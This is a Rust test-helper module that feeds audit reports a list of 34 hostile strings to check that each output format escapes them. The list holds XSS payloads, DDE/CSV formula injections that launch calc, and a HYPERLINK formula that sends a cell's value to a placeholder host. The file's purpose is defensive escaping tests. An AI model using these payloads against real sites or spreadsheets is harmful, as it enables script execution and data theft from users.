//! Reports that attack the formats they are written in, for the tests of all of them.

use serde_json::{Map, Value, json};

use super::sample;
use crate::model::json;
use crate::model::report::AuditReport;

/// Texts that attack whatever they stand in: they end elements, attributes, sheets and comments, name script, turn the line
/// around, are formulas, begin lists and code, link, mention and refer.
pub(crate) const HOSTILE: [&str; 34] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</style><style>*{display:none}</style>",
    "</bdi></td></table><iframe src=//x.invalid>",
    "<!--",
    "]]>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
    "&lt;b&gt; &amp; \u{0}\u{1b}[2J\u{9b}2J",
    "a\u{202e}fdp.exe\u{2066}\u{200b}\u{feff}\u{2028}",
    "\"; } </style> \\22 \\a",
    "<base href=//x.invalid><link rel=stylesheet href=//x.invalid><meta http-equiv=refresh content=0>",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+7 999 000-00-00",
    "-2+3",
    "\t=1+1",
    "\u{feff}=1+1",
    "＝1+1\",;=1+1",
    "http://x.invalid",
    "_x003D_1+1",
    "Sheet1!A1",
    "&G&\"Arial\"&P",
    "1. one\n2. two\n\n    code",
    "- [x] done\n===\n---",
    "| a | b |\n| --- | --- |\n\\| c",
    "```\ncode\n``` ~~~ `a``b`",
    "[x](javascript:1) ![y](http://x.invalid/i.png) <http://x.invalid> [^1]",
    "www.x.invalid a@b.example @anna #12 o/r#3 GH-3 :tada: !4 ~bug",
    "$x^2$ ~~gone~~ **bold** _it_ ==mark== :smile::smile:",
    "\\|\\`\\@a\\",
];

/// Words that the layout of a report fixes.
const FIXED: [&str; 13] = [
    "verdict", "severity", "basis", "from", "grade", "kind", "language", "schema", "status", "state",
    "level", "unit", "test",
];

/// Maps whose keys are names.
const NAMED: [&str; 14] = [
    "channels",
    "operators",
    "staff",
    "scenarios",
    "settings",
    "reference",
    "single_points",
    "per_channel",
    "cost",
    "silence",
    "by_channel",
    "reach_lost",
    "elements_to_strand",
    "facts",
];

/// The report with a text in place of every text, and behind every name.
pub(crate) fn filled(value: &Value, key: &str, text: &str) -> Value {
    match value {
        Value::String(_) if !FIXED.contains(&key) => json!(text),
        // The fields of an object in a list are fixed.
        Value::Array(all) => {
            all.iter().map(|one| filled(one, if one.is_object() { "" } else { key }, text)).collect()
        }
        Value::Object(all) => {
            let named = |name: &String| {
                if NAMED.contains(&key) { format!("{name}{text}") } else { name.clone() }
            };
            all.iter()
                .map(|(name, value)| (named(name), filled(value, name, text)))
                .collect::<Map<_, _>>()
                .into()
        }
        other => other.clone(),
    }
}

/// Reports in which everything has something to say. A text in the place of every id makes all findings one: so one of them has
/// accepted findings, the other has none.
pub(crate) fn samples() -> [Value; 2] {
    let with = sample::complete();
    let mut without = with.clone();
    without["accepted"] = json!([]);
    [with, without]
}

/// The report of a value.
pub(crate) fn report(value: Value) -> AuditReport {
    json::of_tree(value).expect("the layout of a report")
}

/// A report of a business with a great many staff accounts, files and failures, each with a long and costly name.
pub(crate) fn huge(rows: usize, letters: usize) -> Value {
    let mut value = sample::full();
    let name = |number: usize| format!("{number}{}", "<\u{202e}\"".repeat(letters / 3));
    let scenario = value["tests"]["outage"]["scenarios"]["operator:meta"].clone();
    let file = value["sources"][1].clone();
    for number in 0..rows {
        let name = name(number);
        value["tests"]["outage"]["scenarios"][format!("staff:{name}")] = scenario.clone();
        value["tests"]["context"]["staff"][&name] = json!({"messages": 5, "score": 50.0});
        for basis in ["clients", "value", "messages"] {
            value["concentration"][basis]["staff"][&name] = json!({"share": 0.001, "clients": 2});
        }
    }
    let mut file_named = |number: usize| {
        let mut file = file.clone();
        file["path"] = json!(name(number));
        file
    };
    let files: Vec<Value> = (0..rows).map(&mut file_named).collect();
    value["sources"] = files.into();
    let errors = (0..rows)
        .map(|number| json!({"path": name(number), "line": 3, "code": "E0305", "message": name(number)}));
    value["errors"] = errors.collect::<Vec<_>>().into();
    value
}
